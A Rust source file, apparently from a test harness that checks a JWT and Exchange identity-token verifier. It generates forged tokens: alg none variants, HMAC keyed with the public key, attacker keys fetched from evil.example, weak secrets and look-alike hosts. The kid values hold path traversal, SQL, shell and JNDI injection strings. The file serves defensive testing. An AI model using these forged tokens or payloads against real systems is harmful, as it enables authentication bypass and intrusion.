//! The attacks, each in every spelling.

use assay::intake::Evidence;
use assay::jose::base64url;
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;

use crate::common::mint::{AuthCertificate, head, hs256};
use crate::common::secret;
use crate::options::{AMURL, ISSUER, PLAIN_PAYLOAD, Victim, identity_payload, of_attacker};
use crate::{Attack, When};

/// `alg: none` in every spelling, with no signature, with the genuine one, and with zeros.
pub(crate) fn unsigned(victim: &Victim) -> Vec<Attack> {
    let mut spellings: Vec<String> = (0..16).map(letter_case).collect();
    for odd in
        ["none ", " none", "none\\t", "none\\u0000", "non\\u0065", "\\u006eone", "n\\u200bone", "none\\n", "", " "]
    {
        spellings.push(odd.to_owned());
    }
    spellings.extend(["ｎｏｎｅ", "nоne", "𝗻𝗼𝗻𝗲", "n0ne"].map(str::to_owned));
    let mut values: Vec<String> = spellings.iter().map(|spelling| format!(r#""alg":"{spelling}","#)).collect();
    for value in ["null", "0", "false", "[]", "{}", r#"["none"]"#, r#"["RS256"]"#] {
        values.push(format!(r#""alg":{value},"#));
    }
    values.push(String::new());
    let genuine = victim.identity();
    let (_, signature) = genuine.rsplit_once('.').unwrap();
    let zeros = base64url::encode(&[0; 256]);
    let mut attacks = Vec::new();
    for value in &values {
        let header = format!(r#"{{{value}"typ":"JWT","x5t":"{}"}}"#, victim.auth.thumbprint().to_x5t());
        for (what, signature) in [("no signature", ""), ("the genuine signature", signature), ("zeros", &zeros)] {
            for (kind, payload) in [("identity", identity_payload(AMURL)), ("plain", PLAIN_PAYLOAD.to_owned())] {
                let name = format!("{value} {kind}, {what}");
                attacks.push(Attack::new(
                    name,
                    &["token/alg-none"],
                    format!("{}.{signature}", head(&header, &payload)),
                ));
            }
        }
    }
    attacks
}

/// `none` with the letters of these bits in upper case.
fn letter_case(bits: u8) -> String {
    let letters = "none".chars().enumerate();
    letters.map(|(place, letter)| if bits >> place & 1 == 1 { letter.to_ascii_uppercase() } else { letter }).collect()
}

/// HMAC with the genuine public key in every form that programs hold it in.
pub(crate) fn keyed_with_public_key(victim: &Victim) -> Vec<Attack> {
    let auth = &victim.auth;
    let mut secrets: Vec<(String, Vec<u8>)> = Vec::new();
    let pkcs1 = |der: &[u8]| der.get(24..).unwrap_or_default().to_vec(); // behind the fixed head of RSA 2048's key info
    let key_info = pem::parse(auth.public_key_pem()).unwrap().into_contents();
    for (label, der) in
        [("CERTIFICATE", auth.der.clone()), ("PUBLIC KEY", key_info.clone()), ("RSA PUBLIC KEY", pkcs1(&key_info))]
    {
        let block = pem::encode_config(
            &pem::Pem::new(label, der.clone()),
            pem::EncodeConfig::new().set_line_ending(pem::LineEnding::LF),
        );
        for (what, text) in [
            ("LF", block.clone()),
            ("LF, no end", block.trim_end().to_owned()),
            ("CRLF", block.replace('\n', "\r\n")),
            ("CRLF, no end", block.trim_end().replace('\n', "\r\n")),
            ("LF, CRLF end", format!("{}\r\n", block.trim_end())),
            ("escaped", block.trim_end().replace('\n', "\\n")),
            ("one line", block.replace('\n', "")),
            ("body", block.lines().filter(|line| !line.starts_with('-')).collect::<Vec<_>>().join("\n")),
        ] {
            secrets.push((format!("{label} {what}"), text.into_bytes()));
        }
        secrets.push((format!("{label} base64"), STANDARD.encode(&der).into_bytes()));
        secrets.push((format!("{label} DER"), der));
    }
    let members = auth.jwk_members();
    secrets.push(("JWK".to_owned(), format!("{{{members}}}").into_bytes()));
    secrets
        .push(("JWK with blanks".to_owned(), format!("{{{}}}", members.replace(':', ": ").replace(',', ", ")).into()));
    let modulus = members.split('"').nth(7).unwrap().to_owned();
    secrets.push(("modulus".to_owned(), base64url::decode(&modulus).0));
    secrets.push(("modulus as base64url".to_owned(), modulus.into_bytes()));
    let header = format!(r#"{{"alg":"HS256","typ":"JWT","x5t":"{}"}}"#, auth.thumbprint().to_x5t());
    let attack = |(name, secret): (String, Vec<u8>)| {
        [("identity", identity_payload(AMURL)), ("plain", PLAIN_PAYLOAD.to_owned())].map(|(kind, payload)| {
            let token = hs256(&header, &payload, &secret);
            // What needs the certificate cannot be known from the bare key.
            let when = if name.contains("CERTIFICATE") { When::WithCertificate } else { When::WithRightKey };
            Attack::new(format!("{kind} keyed with {name}"), &["signature/hmac-with-public-key"], token).when(when)
        })
    };
    secrets.into_iter().flat_map(attack).collect()
}

/// An attacker's key in the header, or where to fetch it.
pub(crate) fn bringing_keys(victim: &Victim) -> Vec<Attack> {
    let attacker = AuthCertificate::new();
    let x5t = victim.auth.thumbprint().to_x5t();
    let mut attacks = Vec::new();
    for (kind, payload) in [("identity", identity_payload(AMURL)), ("plain", PLAIN_PAYLOAD.to_owned())] {
        for (name, members) in [
            ("jwk", r#""jwk":KEY"#.to_owned()),
            ("jwk with the victim's kid", r#""kid":"victim","jwk":KEY"#.to_owned()),
            ("jwk with the victim's x5t", format!(r#""x5t":"{x5t}","jwk":KEY"#)),
        ] {
            let (token, _) = of_attacker(&members, &payload);
            attacks.push(Attack::new(format!("{kind} {name}"), &["token/embedded-key"], &token));
            let alone = Attack::new(format!("{kind} {name}, alone"), &["signature/key-from-token"], token);
            attacks.push(alone.when(When::WithoutKeys));
        }
        for (name, members) in [
            ("x5c", format!(r#","x5c":["{}"]"#, attacker.base64())),
            ("RSA jwk", format!(r#","jwk":{{{}}}"#, attacker.jwk_members())),
            ("x5c of both", format!(r#","x5c":["{}","{}"]"#, attacker.base64(), victim.auth.base64())),
            ("jku", r#","jku":"https://evil.example/keys.json""#.to_owned()),
            ("jku look-alike", r#","jku":"https://mail.contoso.com@evil.example/keys.json""#.to_owned()),
            ("x5u", r#","x5u":"https://evil.example/key.pem""#.to_owned()),
            ("jku to a file", r#","jku":"file:///dev/null""#.to_owned()),
            ("jku of the wrong type", r#","jku":["https://evil.example/"]"#.to_owned()),
        ] {
            let token = attacker.sign(&victim.header(&members), &payload);
            attacks.push(Attack::new(format!("{kind} {name}"), &["token/embedded-key"], token));
        }
    }
    attacks
}

/// Signed with the right key: nothing but `crit` is wrong.
pub(crate) fn critical(victim: &Victim) -> Vec<Attack> {
    let values = [
        r#"["exp"]"#,
        r#"["http://example.invalid/UNDEFINED"]"#,
        r#"["alg"]"#,
        r#"["kid","x5t"]"#,
        r#"["exp","exp"]"#,
        r#"[""]"#,
        "[]",
        "[1]",
        r#"["exp",null]"#,
        "null",
        "{}",
        "true",
        r#""exp""#,
        r#"[["exp"]]"#,
    ];
    let mut headers = values.map(|value| (value, format!(r#","exp":1,"crit":{value}"#))).to_vec();
    for odd in [
        r#""b64":false,"crit":["b64"]"#,
        r#""b64":false"#,
        r#""b64":"false","crit":["b64"]"#,
        r#""b64":true,"crit":["b64","b64"]"#,
        r#""crit":["b64"]"#,
        r#""b64":false,"crit":["b64","exp"]"#,
    ] {
        headers.push((odd, format!(",{odd}")));
    }
    genuinely_signed(victim, &headers, &["token/critical-header"])
}

/// Signed with the right key: nothing but `kid` is wrong. Each attack as it is and in encodings.
pub(crate) fn key_names(victim: &Victim) -> Vec<Attack> {
    let percent = |text: &str| text.bytes().fold(String::new(), |all, byte| format!("{all}%{byte:02x}"));
    let wide = |text: &str| -> String {
        let wide = |letter: char| char::from_u32(u32::from(letter) + 0xfee0).filter(|_| letter.is_ascii_graphic());
        text.chars().map(|letter| wide(letter).unwrap_or(letter)).collect()
    };
    let mut names = Vec::new();
    for attack in [
        "../../../../dev/null",
        "..\\..\\windows\\win.ini",
        "/etc/passwd",
        "x' OR '1'='1",
        "x' UNION SELECT 'secret'--",
        "1; DROP TABLE keys",
        "key|whoami",
        "$(id)",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}}",
        "file:///etc/passwd",
        "key\0.pem",
    ] {
        for spelled in [
            attack.to_owned(),
            attack.to_uppercase(),
            percent(attack),
            percent(&percent(attack)),
            wide(attack),
            format!("victim{attack}"),
        ] {
            // What begins with something else is no absolute path and no scheme.
            let is_at_the_start = attack.starts_with("/etc") || attack.starts_with("file:");
            if !(is_at_the_start && spelled.starts_with("victim")) {
                names.push(spelled);
            }
        }
    }
    names.sort();
    names.dedup();
    let headers: Vec<_> = names
        .iter()
        .map(|name| (name.as_str(), format!(r#","kid":{}"#, serde_json::to_string(name).unwrap())))
        .collect();
    genuinely_signed(victim, &headers, &["token/kid-injection"])
}

/// Signed with a secret that everybody has, which the user supplies himself as well.
pub(crate) fn weak_secrets() -> Vec<Attack> {
    let mut attacks = Vec::new();
    for weak in [b"secret".as_slice(), b"", b"your-256-bit-secret", &[0; 32], b"\xff\xfe\xfd"] {
        for (kind, payload) in [("identity", identity_payload(AMURL)), ("plain", PLAIN_PAYLOAD.to_owned())] {
            for header in [r#"{"alg":"HS256"}"#, r#"{"alg":"HS256","kid":"victim"}"#] {
                let token = hs256(header, &payload, weak);
                let name = format!("{kind} {header} signed with {weak:?}");
                let guess = || Evidence::guessed("common.txt".to_owned(), 7, weak.to_vec());
                attacks.push(Attack::new(&name, &["signature/weak-secret"], &token).bringing(guess()));
                let own = Attack::new(format!("{name}, supplied"), &["signature/weak-secret"], token);
                attacks.push(own.bringing(secret(weak)).bringing(guess()));
            }
        }
    }
    attacks
}

/// Numbers that a careless verifier takes for every message.
pub(crate) fn zeros() -> Vec<Attack> {
    let mut attacks = Vec::new();
    let one = |bytes: usize| [vec![0; bytes - 1], vec![1]].concat();
    for (alg, bytes) in [("ES256", 32), ("ES384", 48), ("ES512", 66), ("ES256K", 32), ("EdDSA", 32)] {
        for (what, first, second) in [
            ("zeros", vec![0; bytes], vec![0; bytes]),
            ("the second zero", one(bytes), vec![0; bytes]),
            ("the second too large", one(bytes), vec![0xff; bytes]),
        ] {
            attacks.push(with_signature(alg, what, &[first, second].concat()));
        }
        if alg != "EdDSA" {
            attacks.push(with_signature(alg, "the first zero", &[vec![0; bytes], one(bytes)].concat()));
            attacks.push(with_signature(alg, "the first too large", &[vec![0xff; bytes], one(bytes)].concat()));
        }
    }
    let neutral = [vec![1], vec![0; 31]].concat();
    attacks.push(with_signature("EdDSA", "neutral R", &[neutral.clone(), neutral].concat()));
    for (alg, bytes) in [("RS256", 256), ("RS512", 512), ("PS256", 256), ("HS256", 32), ("HS384", 48), ("HS512", 64)] {
        attacks.push(with_signature(alg, "zeros", &vec![0; bytes]));
    }
    attacks
}

fn with_signature(alg: &str, what: &str, signature: &[u8]) -> Attack {
    let header = format!(r#"{{"alg":"{alg}"}}"#);
    let token = format!("{}.{}", head(&header, PLAIN_PAYLOAD), base64url::encode(signature));
    Attack::new(format!("{alg}: {what}"), &["signature/zero-values"], token)
}

/// Signed with the right key: nothing but a repeated name is wrong.
pub(crate) fn duplicates(victim: &Victim) -> Vec<Attack> {
    let mut attacks = genuinely_signed(
        victim,
        &[
            ("alg", r#","alg":"RS256""#.to_owned()),
            ("alg none", r#","alg":"none""#.to_owned()),
            ("escaped alg", r#","\u0061lg":"none""#.to_owned()),
            ("kid", r#","kid":"a","kid":"a""#.to_owned()),
            ("nested", r#","a":{"b":1,"b":2}"#.to_owned()),
            ("in a list", r#","a":[{"b":1,"\u0062":2}]"#.to_owned()),
        ],
        &["token/duplicate-member"],
    );
    for (name, members) in [
        ("aud", r#""aud":"https://evil.example""#),
        ("escaped aud", r#""a\u0075d":"https://evil.example""#),
        ("nested", r#""x":{"y":{"z":1,"z":1}}"#),
        ("deep in lists", r#""x":[[[{"z":1,"\u007a":1}]]]"#),
    ] {
        for (kind, payload) in [("identity", identity_payload(AMURL)), ("plain", PLAIN_PAYLOAD.to_owned())] {
            let payload = payload.replacen('{', &format!("{{{members},"), 1);
            let token = victim.auth.sign(&victim.header(""), &payload);
            attacks.push(Attack::new(format!("{kind} payload {name}"), &["token/duplicate-member"], token));
        }
    }
    // The context as a text, with a name twice inside it.
    let context =
        format!(r#"{{"msexchuid":"u","version":"ExIdTok.V1","amurl":"https://evil.example/","amurl":"{AMURL}"}}"#);
    let payload = identity_payload(AMURL);
    let (before, _) = payload.split_once(r#""appctx":"#).unwrap();
    let payload = format!(r#"{before}"appctx":{}}}"#, serde_json::to_string(&context).unwrap());
    let token = victim.auth.sign(&victim.header(""), &payload);
    attacks.push(Attack::new("inside appctx", &["token/appctx-malformed"], token));
    attacks
}

/// The same bytes behind other characters: a cache or block list that goes by the text takes it for another token.
pub(crate) fn malleable(victim: &Victim) -> Vec<Attack> {
    let mut attacks = Vec::new();
    for (kind, token) in [("identity", victim.identity()), ("plain", victim.plain())] {
        let parts: Vec<_> = token.split('.').map(str::to_owned).collect();
        for place in 0..3 {
            let with = |part: String| {
                let mut parts = parts.clone();
                parts[place] = part;
                parts.join(".")
            };
            let part = &parts[place];
            let mut push = |what: &str, text: String| {
                let name = format!("{kind} part {place}: {what}");
                attacks.push(Attack::new(name, &["token/malformed"], text));
            };
            push("padded once", with(format!("{part}=")));
            push("padded twice", with(format!("{part}==")));
            push("padded thrice", with(format!("{part}===")));
            push("a bar at its end", with(format!("{part}|")).replace('|', "%"));
            if let Some(other) = with_stray_bits(part) {
                push("stray bits", with(other));
            }
            if part.len() % 4 != 0 {
                push("a character more", with(format!("{part}{}", "A".repeat(5 - part.len() % 4))));
            }
        }
        attacks.push(Attack::new(format!("{kind}: a part more"), &["token/malformed"], format!("{token}.AAAA")));
        let five: &[&str] = &["token/malformed", "token/encrypted"];
        attacks.push(Attack::new(format!("{kind}: two parts more"), five, format!("{token}.e30.")));
    }
    attacks
}

/// The same bytes with bits in the last character that say nothing, where there are any.
fn with_stray_bits(part: &str) -> Option<String> {
    const ALPHABET: &str = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    if part.len().is_multiple_of(4) {
        return None;
    }
    let (rest, last) = part.split_at(part.len() - 1);
    let value = ALPHABET.find(last)?;
    Some(format!("{rest}{}", ALPHABET.chars().nth(value + 1)?))
}

/// Signed with the right key: nothing but `amurl` is wrong.
pub(crate) fn look_alikes(victim: &Victim) -> Vec<Attack> {
    const CODES: &[&str] = &[
        "token/amurl-look-alike",
        "token/amurl-malformed",
        "token/amurl-not-https",
        "token/amurl-unexpected-path",
        "token/amurl-not-approved",
    ];
    let path = "/autodiscover/metadata/json/1";
    let mut addresses: Vec<String> = [
        "mail.contoso.com.evil.example",
        "mail-contoso.com",
        "mail.contoso.com@evil.example",
        "mail.contoso.com:443@evil.example",
        "mail.contoso.com:pw@evil.example",
        "@mail.contoso.com",
        "mail.contoso.com.",
        "mail。contoso。com",
        "mail．contoso．com",
        "ｍail.contoso.com",
        "mail.contoso.com%2eevil.example",
        "mail.contoso.com%00.evil.example",
        "mail%2econtoso.com",
        "mail.contoso.com\\@evil.example",
        "mail.contoso.com\\.evil.example",
        "mail.\tcontoso.com",
        "mail.contoso.com\n",
        "mail.contoso.com\u{200b}",
        "mail.соntoso.com",
        "mail.xn--ntoso-vye3b.com",
        "mail.contos0.com",
        "evilcontoso.com",
        "contoso.com",
        "evil-mail.contoso.com.example",
        "outlook.office365.com.evil.example",
        "outlook.office365.com:8443",
        "outlook.office365.com:80",
        "outlook.office365.com.",
        "outlook.office365.com@evil.example",
        "outlook.0ffice365.com",
        "outlook.offıce365.com",
        "outlook.оffice365.com",
        "outlook.office365.com%2f.evil.example",
        "outlook-office365.com",
        "evil-outlook.office365.com",
        "127.0.0.1",
        "2130706433",
        "0x7f000001",
        "0177.0.0.1",
        "127.1",
        "[::1]",
        "[::ffff:127.0.0.1]",
        "134744072",
        "0x08.8.8.8",
        "localhost",
        "",
    ]
    .map(|host| format!("https://{host}{path}"))
    .to_vec();
    addresses.extend(
        [
            "http://mail.contoso.com/autodiscover/metadata/json/1",
            "HTTP://mail.contoso.com/autodiscover/metadata/json/1",
            "ftp://mail.contoso.com/autodiscover/metadata/json/1",
            "https:mail.contoso.com/autodiscover/metadata/json/1",
            "https:/mail.contoso.com/autodiscover/metadata/json/1",
            "https:\\\\mail.contoso.com\\autodiscover\\metadata\\json\\1",
            "https:///mail.contoso.com/autodiscover/metadata/json/1",
            "//mail.contoso.com/autodiscover/metadata/json/1",
            "mail.contoso.com/autodiscover/metadata/json/1",
            " https://mail.contoso.com/autodiscover/metadata/json/1",
            "https://mail.contoso.com/autodiscover/metadata/json/1 ",
            "javascript:alert(1)//mail.contoso.com",
            "https://evil.example/?https://mail.contoso.com/autodiscover/metadata/json/1",
            "https://evil.example#@mail.contoso.com/autodiscover/metadata/json/1",
            "https://evil.example\\@mail.contoso.com/autodiscover/metadata/json/1",
            "https://outlook.office365.com/owa/attachment",
            "https://outlook.office365.com/autodiscover/metadata/json/1/../../../owa",
            "https://outlook.office365.com/autodiscover/metadata/json/1?x=1",
            "https://outlook.office365.com/autodiscover/metadata/json/1#x",
        ]
        .map(str::to_owned),
    );
    let attack = |address: &String| {
        let token = victim.auth.sign(&victim.header(""), &identity_payload(address));
        Attack::new(format!("{address:?}"), CODES, token)
    };
    addresses.iter().map(attack).collect()
}

/// The actor token inside, which carries the signature, attacked.
pub(crate) fn server_to_server(victim: &Victim) -> Vec<Attack> {
    const APP: &str = "00000002-0000-0ff1-ce00-000000000000";
    let actor_claims = format!(
        r#"{{"iss":"{APP}@contoso.com","nameid":"{APP}@contoso.com","aud":"{APP}/x@contoso.com","trustedfordelegation":"true"}}"#
    );
    let outer = |actor: &str| {
        let claims = format!(r#"{{"iss":"{ISSUER}","aud":"{APP}/x@contoso.com","nameid":"u","actortoken":"{actor}"}}"#);
        format!("{}.", head(r#"{"typ":"JWT","alg":"none"}"#, &claims))
    };
    let genuine = victim.auth.sign(&victim.header(""), &actor_claims);
    let (signed, signature) = genuine.rsplit_once('.').unwrap();
    let mut attacks = Vec::new();
    for (what, header) in [("none", r#"{"alg":"none"}"#), ("nOnE", r#"{"alg":"nOnE"}"#), ("missing", "{}")] {
        for (signed_with, signature) in [("nothing", ""), ("the genuine signature", signature)] {
            let actor = format!("{}.{signature}", head(header, &actor_claims));
            let name = format!("actor alg {what}, {signed_with}");
            attacks.push(Attack::new(name, &["token/actor-unsigned", "token/alg-none"], outer(&actor)));
        }
    }
    let (brought, _) = of_attacker(r#""jwk":KEY"#, &actor_claims);
    attacks.push(Attack::new("actor brings a key", &["token/embedded-key"], outer(&brought)));
    let named = victim.auth.sign(&victim.header(r#","kid":"../../dev/null""#), &actor_claims);
    attacks.push(Attack::new("actor kid", &["token/kid-injection"], outer(&named)));
    let critical = victim.auth.sign(&victim.header(r#","crit":["x"]"#), &actor_claims);
    attacks.push(Attack::new("actor crit", &["token/critical-header"], outer(&critical)));
    let confused = hs256(r#"{"alg":"HS256"}"#, &actor_claims, victim.auth.public_key_pem().as_bytes());
    let confused =
        Attack::new("actor keyed with the public key", &["signature/hmac-with-public-key"], outer(&confused));
    attacks.push(confused.when(When::WithRightKey));
    let guessed = Attack::new(
        "actor with a weak secret",
        &["signature/weak-secret"],
        outer(&hs256(r#"{"alg":"HS256"}"#, &actor_claims, b"secret")),
    );
    attacks
        .push(guessed.bringing(Evidence::guessed("list".to_owned(), 1, b"secret".to_vec())).bringing(secret("secret")));
    let outer_kid =
        format!(r#"{{"iss":"{ISSUER}","aud":"{APP}/x@contoso.com","nameid":"u","actortoken":"{genuine}"}}"#);
    let outer_kid = format!("{}.", head(r#"{"alg":"none","kid":"x' OR '1'='1"}"#, &outer_kid));
    attacks.push(Attack::new("outer kid", &["token/kid-injection"], outer_kid));
    let spelled = format!(r#"{{"iss":"{ISSUER}","aud":"{APP}/x@contoso.com","nameid":"u","actortoken":"{genuine}"}}"#);
    let spelled = format!("{}.", head(r#"{"alg":"NONE"}"#, &spelled));
    attacks.push(Attack::new("outer alg NONE", &["token/outer-signed"], spelled));
    assert!(!signed.is_empty());
    attacks
}

/// Both kinds of token, signed with the right key over a header with these members.
fn genuinely_signed(victim: &Victim, headers: &[(&str, String)], codes: &'static [&'static str]) -> Vec<Attack> {
    let attack = |(name, members): &(&str, String)| {
        [("identity", identity_payload(AMURL)), ("plain", PLAIN_PAYLOAD.to_owned())].map(|(kind, payload)| {
            let token = victim.auth.sign(&victim.header(members), &payload);
            Attack::new(format!("{kind} {name}"), codes, token)
        })
    };
    headers.iter().flat_map(attack).collect()
}
